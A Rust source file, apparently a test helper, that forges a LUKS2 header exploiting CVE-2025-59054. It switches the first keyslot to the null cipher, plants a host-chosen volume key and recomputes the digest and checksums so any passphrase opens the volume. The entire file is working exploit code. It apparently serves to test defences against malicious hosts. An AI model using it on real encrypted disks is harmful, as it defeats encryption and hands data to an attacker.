//! The header that a host would like to be used: a good one, changed so that any key opens the volume (CVE-2025-59054).
//!
//! Its keyslot is encrypted with the null cipher and holds a volume key of the host's choice, split as LUKS splits keys
//! (LUKS2 On-Disk Format Specification 1.1, "Anti-Forensic splitter"); the digest fits that key, and so do the checksums.

use std::num::NonZeroU32;
use std::path::Path;

use aws_lc_rs::{digest, pbkdf2};
use base64::{Engine, engine::general_purpose::STANDARD};
use serde_json::Value;

const COPY_LEN: usize = 0x4000;
const BINARY_LEN: usize = 4096;
const STRIPES: usize = 4000;
/// The volume key that the host chooses.
const KEY: [u8; 64] = *b"a volume key that the host knows, and whoever asks the host too!";

/// The head of the volume at `disk`, up to the end of its first keyslot, with a header of the host's.
pub(crate) fn any_key_opens(disk: &Path) -> Vec<u8> {
    let mut bytes = std::fs::read(disk).unwrap();
    let text = &bytes[BINARY_LEN..COPY_LEN];
    let end = text.iter().position(|byte| *byte == 0).unwrap();
    let mut json: Value = serde_json::from_slice(&text[..end]).unwrap();
    let slot = &mut json["keyslots"]["0"];
    slot["area"]["encryption"] = "cipher_null-ecb".into();
    let number = |value: &Value| value.as_str().unwrap().parse::<usize>().unwrap();
    let (at, length) = (number(&slot["area"]["offset"]), number(&slot["area"]["size"]));
    let digest = &mut json["digests"]["0"];
    let salt = STANDARD.decode(digest["salt"].as_str().unwrap()).unwrap();
    let rounds = u32::try_from(digest["iterations"].as_u64().unwrap()).unwrap();
    let mut fitting = [0; 32];
    pbkdf2::derive(pbkdf2::PBKDF2_HMAC_SHA256, NonZeroU32::new(rounds).unwrap(), &salt, &KEY, &mut fitting);
    digest["digest"] = STANDARD.encode(fitting).into();

    let split = split();
    bytes[at..at + split.len()].copy_from_slice(&split);
    let text = json.to_string();
    for start in [0, COPY_LEN] {
        let copy = &mut bytes[start..start + COPY_LEN];
        copy[BINARY_LEN..].fill(0);
        copy[BINARY_LEN..BINARY_LEN + text.len()].copy_from_slice(text.as_bytes());
        copy[448..512].fill(0);
        let checksum = digest::digest(&digest::SHA256, copy);
        copy[448..480].copy_from_slice(checksum.as_ref());
    }
    bytes.truncate(at + length);
    bytes
}

/// The key in stripes, of which all but the last one are zeros here: random in a good one.
fn split() -> Vec<u8> {
    let mut hash = [0; KEY.len()];
    for _ in 1..STRIPES {
        for (number, block) in hash.chunks_mut(32).enumerate() {
            let input = [&u32::try_from(number).unwrap().to_be_bytes(), &*block].concat();
            let output = digest::digest(&digest::SHA256, &input);
            block.copy_from_slice(output.as_ref());
        }
    }
    let mut stripes = vec![0; KEY.len() * STRIPES];
    let last = KEY.len() * (STRIPES - 1);
    for (place, (hashed, key)) in stripes[last..].iter_mut().zip(hash.iter().zip(KEY)) {
        *place = hashed ^ key;
    }
    stripes
}
